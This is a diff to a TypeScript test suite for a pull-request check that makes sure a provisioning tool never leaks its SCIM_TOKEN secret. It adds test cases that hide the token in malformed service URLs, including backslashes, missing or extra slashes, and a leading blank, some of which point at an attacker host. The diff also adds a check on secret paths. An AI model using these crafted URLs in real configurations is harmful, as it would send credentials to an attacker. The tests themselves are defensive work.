@@ -129,6 +129,14 @@ const ATTACKS: readonly (readonly [title: string, attack: Attack])[] = [
   ['a secret in the path of the attacker', service(({ evil }) => `baseUrl: 'http://${evil}/${env('SCIM_TOKEN')}'`)],
   ['a secret as the whole URL', service(() => `baseUrl: '${env('SCIM_TOKEN')}', ${AUTH}`)],
   ['a secret as a user name in the URL', service(({ evil }) => `baseUrl: 'http://${env('SCIM_TOKEN')}@${evil}'`)],
+  [
+    'a secret in a host behind a blank',
+    service(({ evil }) => `baseUrl: ' http://${env('SCIM_TOKEN')}.${evil}', ${AUTH}`),
+  ],
+  ['a secret in a host behind one slash', service(() => `baseUrl: 'http:/${env('SCIM_TOKEN')}.example', ${AUTH}`)],
+  ['a secret in a host behind no slash', service(() => `baseUrl: 'https:${env('SCIM_TOKEN')}.example', ${AUTH}`)],
+  ['a secret in a host behind backslashes', service(() => `baseUrl: 'http:\\\\${env('SCIM_TOKEN')}.example', ${AUTH}`)],
+  ['a secret in a host behind many slashes', service(() => `baseUrl: 'http:////${env('SCIM_TOKEN')}', ${AUTH}`)],
   ['a file in the path of the attacker', service(({ evil }) => `baseUrl: 'http://${evil}/${file('own.txt')}'`)],
   // Which secrets are read.
   [
@@ -241,6 +249,8 @@ function forms(secret: string): readonly string[] {
     bytes.toString('base64url'),
     bytes.toString('hex'),
     encodeURIComponent(secret),
+    // However what is in front of it is encoded.
+    secret.slice(-12),
   ];
 }
 
@@ -262,6 +272,7 @@ describe('a pull request', () => {
       if (path.startsWith('/redirect')) response.writeHead(302, { location: `http://${place.evil}${path}` }).end();
       else if (path === '/token') json(response, 200, { access_token: 'given-access-token', token_type: 'bearer' });
       else if (method === 'POST') json(response, 201, { id: '1', userName: 'ada@example.com' });
+      else if (path.startsWith('/missing')) json(response, 404, { detail: 'nothing is here' });
       else json(response, 200, { totalResults: 0, Resources: [] });
     });
     const server = createServer((_request, response) => response.end('{}'));
@@ -358,6 +369,15 @@ describe('a pull request', () => {
       assertNoSecret([gone], title);
     });
   }
+
+  it('shows nothing of a secret in a path of the service, however the URL spells it', async () => {
+    for (const start of ['/missing/', '/missing\\', '/missing/x', '/%6d/../missing/']) {
+      await write(service(({ good: host }) => `baseUrl: 'http://${host}${start}${env('SCIM_TOKEN')}', ${AUTH}`)(place));
+      const ended = [await run(['plan', '--verbose']), await run(['doctor', '--verbose'])];
+      assert.ok(good.received.length > 0);
+      assertNoSecret([...ended.flatMap(({ stdout, stderr }) => [stdout, stderr]), ...(await written())], start);
+    }
+  });
 
   it('gains nothing by a redirect of the service', async () => {
     await write({
